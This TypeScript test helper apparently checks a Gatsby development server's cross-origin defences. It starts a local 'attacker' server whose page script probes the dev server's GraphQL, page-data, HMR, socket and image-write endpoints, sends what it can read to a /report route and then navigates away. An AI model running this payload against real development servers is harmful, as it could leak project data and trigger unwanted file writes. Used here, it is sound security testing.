import { once } from "node:events";
import { createServer } from "node:http";
import { text } from "node:stream/consumers";
import sharp from "sharp";
import { until } from "../../../testing/until";

/** Tries on servers of another origin what a page can, and reports what it could read or run. */
const attack = (servers: readonly string[], file: string) => `
const got = [];
const keep = (what) => (value) => got.push(what + ": " + value);
const picture = (by) => encodeURIComponent(location.origin + "/picture.png?by=" + by);
const write = (server, by) => server + "/_gatsby/image/x/y/" + encodeURIComponent("${file}") +
  "?u=" + picture(by) + "&a=" + encodeURIComponent("w=1&h=1&fm=png");
const settled = (element, source) => new Promise((done) => {
  Object.assign(element, { onload: () => done("loaded"), onerror: () => done("") });
  Object.assign(element, source);
  document.body.append(element);
});
const stream = (source, event) => new Promise((done) => {
  source["on" + event] = ({ data = "opened" }) => done(data);
  source.onerror = source.onclose = () => done("");
});
const read = (url, options) => fetch(url, options).then((answer) => answer.text(), () => "");
const tryAll = (server) => [
  ...["/", "/page-data/index/page-data.json", "/___graphql?query={site{id}}", "/api/state", "/editor.js",
    "/_gatsby/file/x/y?u=" + picture("file"), "/__original-stack-frame?skipSourceMap=1&moduleId=package.json",
    "/socket.io/?EIO=4&transport=polling"].map((path) => read(server + path).then(keep(path))),
  read(server + "/___graphql", { method: "POST", body: '{"query":"{site{id}}"}' }).then(keep("query")),
  read(server + "/api/undo", { method: "POST", mode: "no-cors" }).then(keep("undo")),
  read(write(server, "fetch"), { mode: "no-cors" }).then(keep("write")),
  settled(new Image(), { src: write(server, "img") }).then(keep("picture")),
  settled(document.createElement("script"), { src: server + "/commons.js" }).then(keep("script")),
  settled(document.createElement("iframe"), { src: write(server, "frame") }),
  stream(new WebSocket(server.replace("http", "ws") + "/socket.io/?EIO=4&transport=websocket"), "message")
    .then(keep("socket")),
  stream(new EventSource(server + "/__webpack_hmr"), "open").then(keep("events")),
];
const servers = ${JSON.stringify(servers)};
Promise.all(servers.flatMap(tryAll)).then(() => {
  const read = got.filter((each) => !each.endsWith(": "));
  return fetch("/report", { method: "POST", body: JSON.stringify(read) });
}).then(() => { location.href = write(servers[0], "navigation"); });
`;

/** A web server at a port of its own, whose page attacks others. */
export interface Attacker {
  readonly port: number;
  /** What the page could read of the others, once it has tried all. */
  readonly report: () => Promise<string[]>;
  /** The addresses that others have fetched for the page. */
  readonly fetched: readonly string[];
  readonly stop: () => void;
}

/**
 * Starts an attacker.
 * @param servers the origins that its page attacks, the development server's first.
 * @param file what it has Gatsby write, from the folder of Gatsby's images.
 */
export async function startAttacker(servers: readonly string[], file: string): Promise<Attacker> {
  const create = { width: 1, height: 1, channels: 3, background: "#345" } as const;
  const picture = await sharp({ create }).png().toBuffer();
  const fetched: string[] = [];
  const reports: string[][] = [];
  const server = createServer(async (request, response) => {
    const { url = "" } = request;
    if (url.startsWith("/picture.png")) fetched.push(url);
    if (url === "/report") reports.push(JSON.parse(await text(request)) as string[]);
    response.setHeader("content-type", url === "/" ? "text/html" : "image/png");
    response.end(url === "/" ? `<body><script>${attack(servers, file)}</script>` : picture);
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  const at = server.address();
  return {
    port: typeof at === "object" && at ? at.port : 0,
    async report() {
      await until(() => reports.length > 0);
      return reports.pop() ?? [];
    },
    fetched,
    stop: () => server.close(),
  };
}
